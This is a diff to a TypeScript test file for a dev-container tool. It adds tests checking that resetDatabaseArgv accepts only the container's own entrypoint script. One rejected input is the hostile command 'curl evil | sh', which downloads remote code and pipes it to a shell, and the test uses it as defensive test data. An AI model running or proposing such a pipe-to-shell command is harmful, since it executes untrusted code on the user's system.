@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { describe, it } from 'node:test';
-import { ENTRYPOINT_STEPS, classifyStepFailure, parseStepMarker } from '../../src/core/entrypointSteps';
+import { ENTRYPOINT_STEPS, classifyStepFailure, parseStepMarker, resetDatabaseArgv } from '../../src/core/entrypointSteps';
 import { CONTAINER_CONFIG_SCRIPT, CONTAINER_CONFIG_VARIABLE, mixDoAfterContainerConfig } from '../../src/core/scaffold/containerConfig';
 
 const marker = (text: string): string => `phoenix-dev-container: ${text}`;
@@ -146,5 +146,15 @@ describe('the container configuration', () => {
       `do app.config, eval 'Code.eval_string(System.fetch_env!("PHOENIX_CONTAINER_CONFIG"))', ecto.create`,
     );
     assert.match(mixDoAfterContainerConfig('my-registry/elixir-dev:latest', 'phx.server'), / \+ phx\.server$/);
+  });
+});
+
+describe('resetDatabaseArgv', () => {
+  it('runs the container\'s own entrypoint in its reset mode, and nothing else', () => {
+    assert.deepEqual(resetDatabaseArgv(['sh', '/app/.devcontainer/entrypoint.sh']), ['sh', '/app/.devcontainer/entrypoint.sh', 'reset-database']);
+    assert.deepEqual(resetDatabaseArgv(['sh', '/work space/dev box/entrypoint.sh']), ['sh', '/work space/dev box/entrypoint.sh', 'reset-database']);
+    assert.equal(resetDatabaseArgv(['mix', 'phx.server']), undefined);
+    assert.equal(resetDatabaseArgv(['sh', '-c', 'curl evil | sh']), undefined);
+    assert.equal(resetDatabaseArgv(['sh', '/app/.devcontainer/entrypoint.sh', 'extra']), undefined);
   });
 });
